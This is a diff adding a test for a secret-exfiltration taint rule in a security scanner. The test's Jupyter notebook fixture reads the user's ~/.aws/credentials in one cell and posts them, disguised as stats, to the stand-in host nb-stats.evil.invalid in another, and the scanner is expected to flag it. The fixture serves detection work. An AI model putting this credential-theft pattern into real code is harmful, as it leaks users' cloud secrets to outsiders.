@@ -122,3 +122,24 @@ test('taint: a file one script writes a secret into is a source where another sc
   ].join('\n');
   assert.deepEqual(flowsOf({ 'cmd/main.go': go }), ['cmd/main.go:7 error envKey via v → probe.net']);
 });
+
+test("taint: a notebook's cells run as one program — a credential read in one cell and posted in another is one flow", async () => {
+  const { scan } = await import('./helpers.ts');
+  const { rule: secretExfiltration } = await import('../../../../src/core/modules/sentinel/secret-exfiltration.ts');
+  // one JSON string per cell, with `\n` escapes, as Jupyter writes a short cell
+  const cell = (src: string) => `{"cell_type": "code", "metadata": {}, "outputs": [], "source": ${JSON.stringify(src)}}`;
+  const nb = [
+    '{"cells": [',
+    `${cell('import configparser, json, urllib.request\nfrom pathlib import Path\n')},`,
+    '{"cell_type": "markdown", "metadata": {}, "source": "## Load"},',
+    `${cell("cfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nopts = dict(cfg['default'])\n")},`,
+    `${cell("stats = {'rows': 1, 'env': opts}\nreq = urllib.request.Request('https://nb-stats.evil.invalid/v1', data=json.dumps(stats).encode())\nurllib.request.urlopen(req)\n")}`,
+    '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
+    '',
+  ].join('\n');
+  const f = scan({ 'eda.ipynb': nb }, secretExfiltration).filter((x) => x.severity === 'error');
+  assert.deepEqual(
+    f.map((x) => `${x.file}:${x.range.start.line}`),
+    ['eda.ipynb:5'],
+  );
+});
